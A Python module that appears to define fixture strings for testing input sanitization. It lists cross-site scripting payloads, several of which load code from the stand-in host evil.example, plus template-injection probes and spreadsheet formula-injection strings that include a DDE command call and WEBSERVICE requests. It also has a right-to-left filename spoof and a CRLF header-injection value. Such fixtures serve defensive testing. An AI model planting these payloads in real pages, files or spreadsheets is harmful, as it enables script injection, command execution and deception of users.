"""Texts that somebody would write to run a script, a formula, or to deceive the eye."""

_CALLS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>",
    "<math href=javascript:alert(1)>x</math>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<style>@import'//evil.example/x.css'</style>", "<div style=background:url(//evil.example/x)>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "` onmouseover=alert(1) x=`",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</select><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "{{7*7}}", "{% raw %}", "{{config}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞", "<scr\x0bipt>alert(1)</script>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\u2028alert(1)>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<x contenteditable onblur=alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
)  # fmt: skip
XSS: tuple[str, ...] = _CALLS
FORMULAS: tuple[str, ...] = tuple(
    lead + body
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "＝", " =", "\n=", "'=")
    for body in ("1+1", "HYPERLINK(\"http://evil.example\")", "cmd|' /C calc'!A0", "WEBSERVICE(\"http://evil.example\")", "DDE(\"x\";\"y\")")
)  # fmt: skip
ODD: tuple[str, ...] = (
    "axls\u202eexe.doc", "\u2066隐藏\u2069", "𠮷野𡘙𪚥龘", "𰻝𰻝面", "零\u200b宽", "e\u0301", "\ufeff起", "🧑‍⚕️医师", "长" * 4_000, "\u0000", "a\r\nSet-Cookie: x=1",
)  # fmt: skip
